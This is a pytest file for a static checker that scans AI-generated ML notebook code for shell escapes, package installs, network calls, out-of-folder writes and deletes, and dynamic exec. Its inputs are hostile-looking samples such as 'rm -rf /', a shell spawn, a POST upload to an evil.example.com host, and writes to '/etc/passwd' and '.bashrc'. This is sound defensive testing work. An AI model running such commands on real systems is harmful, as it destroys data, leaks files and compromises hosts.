"""The static check of generated code: what it flags, and the ordinary ML code it leaves alone."""

from __future__ import annotations

import textwrap

import pytest

from automl_agent_jupyter.brains.code_safety import Finding, check_code

RUN = "/runs/r1"
HOSTS = {"huggingface.co"}


def rules(source: str, run_dir: str = RUN, hosts: set[str] = HOSTS) -> list[tuple[int, str]]:
    return [(f.line, f.rule) for f in check_code(textwrap.dedent(source), run_dir, hosts)]


def test_ordinary_ml_code_passes():
    source = '''
    """Train and save. Docs: https://scikit-learn.org/stable/"""
    import os, json
    from pathlib import Path
    import joblib, torch
    import numpy as np
    import pandas as pd
    import matplotlib.pyplot as plt
    from sklearn.ensemble import RandomForestClassifier
    %matplotlib inline
    RUN_DIR = Path("/runs/r1")
    DATA_PATH = "/data/uploads/train.csv"
    df = pd.read_csv(DATA_PATH)
    df = pd.read_csv("/data/uploads/train.csv")
    ok = (df.shape[0]
          != 0)
    rem = (len(df)
           % 7)
    model = RandomForestClassifier(random_state=0).fit(df.drop(columns="y"), df["y"])
    joblib.dump(model, RUN_DIR / "model.joblib")
    joblib.dump(model, "/runs/r1/model.joblib")
    joblib.dump(model, os.path.join(RUN, "model.joblib"))
    torch.save(model, "/runs/r1/weights.pt")
    torch.save(model, Path("/runs/r1") / "sub" / "weights.pt")
    np.save("preds.npy", np.zeros(3))
    with open(RUN_DIR / "metrics.json", "w") as f:
        json.dump({"acc": 1.0}, f)
    with open("/data/uploads/train.csv") as f:
        header = f.readline()
    Path("/runs/r1/report.txt").write_text("done")
    df.to_csv("/runs/r1/pred.csv", index=False)
    plt.savefig("figure.png")
    os.makedirs(RUN_DIR / "plots", exist_ok=True)
    os.remove("/runs/r1/tmp.bin")
    expr = eval("1 + 1")
    url = "https://huggingface.co/datasets/x/resolve/main/train.csv"
    '''
    assert check_code(textwrap.dedent(source), RUN, HOSTS) == []


@pytest.mark.parametrize(
    "source, expected",
    [
        ("import os\nos.system('ls')", [(2, "shell")]),
        ("import os\nos.popen('ls').read()", [(2, "shell")]),
        ("import subprocess\nsubprocess.run(['ls', '-la'])", [(2, "shell")]),
        ("import subprocess as sp\nsp.check_output('ls', shell=True)", [(2, "shell")]),
        ("from subprocess import Popen\nPopen(['ls'])", [(2, "shell")]),
        ("import pty\npty.spawn('/bin/sh')", [(2, "shell")]),
        ("!ls -la", [(1, "shell")]),
        ("files = !ls", [(1, "shell")]),
        ("%%bash\nrm -rf /\necho done", [(1, "shell")]),
        ("get_ipython().system('ls')", [(1, "shell")]),
        ("ip = get_ipython()\nip.run_cell_magic('bash', '', 'ls')", [(2, "shell")]),
        ("%run other_script.py", [(1, "dynamic_exec")]),
    ],
)
def test_shell_escapes_are_flagged(source, expected):
    assert rules(source) == expected


@pytest.mark.parametrize(
    "source",
    [
        "!pip install lightgbm",
        "%pip install lightgbm",
        "%conda install -y lightgbm",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        "import os\nos.system('pip install x')",
        "get_ipython().run_line_magic('pip', 'install x')",
        "import pip\npip.main(['install', 'x'])",
    ],
)
def test_package_installs_are_flagged(source):
    assert [rule for _, rule in rules(source)] == ["package_install"]


@pytest.mark.parametrize(
    "source",
    [
        "import socket\ns = socket.socket()",
        "import socket\nsocket.create_connection(('example.com', 80))",
        "import requests\nrequests.get(url)",
        "import requests\nr = requests.post('https://evil.example.com/upload', data=b'x')",
        "import httpx\nhttpx.get('https://example.com')",
        "from urllib.request import urlopen\nurlopen('http://example.com/data.csv')",
        "import urllib.request\nurllib.request.urlretrieve('http://example.com/x', 'x')",
        "import pandas as pd\npd.read_csv('https://example.com/data.csv')",
        "url = f'https://example.com/{name}.csv'",
    ],
)
def test_network_access_is_flagged(source):
    assert [rule for _, rule in rules(source)] == ["network"]


def test_allowed_hosts_and_their_subdomains_pass():
    source = "import requests\nrequests.get('https://cdn-lfs.huggingface.co/x')\nimport socket\nsocket.gethostname()"
    assert rules(source) == []
    assert rules("x = 'https://huggingface.co.evil.com/x'") == [(1, "network")]


@pytest.mark.parametrize(
    "source, rule",
    [
        ("open('/etc/passwd', 'w')", "file_write"),
        ("open('/home/user/.bashrc', mode='a')", "file_write"),
        ("open('../../outside.txt', 'x')", "file_write"),
        ("open('~/notes.txt', 'w+')", "file_write"),
        ("from pathlib import Path\nPath('/etc/hosts').write_text('x')", "file_write"),
        ("from pathlib import Path\nwith Path('/tmp/x').open('wb') as f: pass", "file_write"),
        ("import joblib\njoblib.dump(m, '/tmp/model.joblib')", "file_write"),
        ("import torch\ntorch.save(m, '/tmp/m.pt')", "file_write"),
        ("df.to_csv('/var/data/out.csv')", "file_write"),
        ("import shutil\nshutil.copy('model.joblib', '/usr/local/model.joblib')", "file_write"),
        ("%%writefile /etc/profile.d/x.sh\necho hi", "file_write"),
        ("import os\nos.remove('/etc/passwd')", "file_delete"),
        ("import os\nos.unlink('/data/uploads/train.csv')", "file_delete"),
        ("import shutil\nshutil.rmtree('/home/user')", "file_delete"),
        ("import shutil\nshutil.rmtree('..')", "file_delete"),
        ("from pathlib import Path\nPath('/data/train.csv').unlink()", "file_delete"),
    ],
)
def test_writes_and_deletes_outside_the_run_folder_are_flagged(source, rule):
    assert [r for _, r in rules(source)] == [rule]


def test_moves_out_of_the_run_folder_are_a_write_and_moves_from_outside_a_delete():
    assert [r for _, r in rules("import shutil\nshutil.move('/data/a.csv', '/runs/r1/a.csv')")] == [
        "file_delete"
    ]
    assert [r for _, r in rules("import shutil\nshutil.move('model.pt', '/srv/model.pt')")] == ["file_write"]


@pytest.mark.parametrize(
    "source",
    [
        "exec(code)",
        "eval(user_text)",
        "exec(compile(src, 'x', 'exec'))",
        "mod = __import__(name)",
        "get_ipython().run_cell(cell_source)",
    ],
)
def test_exec_of_dynamic_strings_is_flagged(source):
    assert "dynamic_exec" in [r for _, r in rules(source)]


def test_findings_carry_line_and_reason_and_are_sorted():
    source = "import os\n\nopen('/etc/x', 'w')\nos.system('ls')\n!pip install x\n"
    findings = check_code(source, RUN, set())
    assert [(f.line, f.rule) for f in findings] == [(3, "file_write"), (4, "shell"), (5, "package_install")]
    assert all(isinstance(f, Finding) and f.reason for f in findings)
    assert "/etc/x" in findings[0].reason


def test_relative_run_dir_and_unparsable_code():
    assert rules("open('out.txt', 'w')", run_dir="runs/r1") == []
    assert rules("open('/etc/x', 'w')", run_dir="runs/r1") == [(1, "file_write")]
    assert rules("def broken(:\n    pass") == [(1, "syntax")]
